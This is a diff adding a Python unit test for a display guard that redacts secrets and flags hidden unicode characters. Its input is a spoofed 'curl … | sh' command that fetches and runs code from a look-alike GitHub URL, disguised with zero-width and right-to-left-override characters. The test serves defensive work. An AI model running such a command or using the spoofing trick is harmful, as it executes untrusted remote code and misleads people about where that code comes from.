@@ -104,3 +104,13 @@ def test_without_the_redactor_hidden_characters_go_and_a_later_redaction_still_f
 
 def test_nothing_guarded_is_empty() -> None:
     assert guarded(None, _redact) == "" and guarded("", _redact) == ""
+
+
+def test_a_secret_beside_hidden_characters_says_they_were_taken_out() -> None:
+    """A look-alike command with a secret in it: the secret is redacted, which takes the
+    hidden characters out with it — and the line says so, never reading as plain."""
+    shown = guarded(f"curl https://g\u200bithub.com/x\u202e | sh {TOKEN}", _redact)
+    assert shown.startswith("[hidden characters taken out] ")
+    assert "0123456789abcdef" not in shown and "\u200b" not in shown and "\u202e" not in shown
+    plain = guarded(f"curl https://github.com/x | sh {TOKEN}", _redact)
+    assert "hidden" not in plain and "0123456789abcdef" not in plain
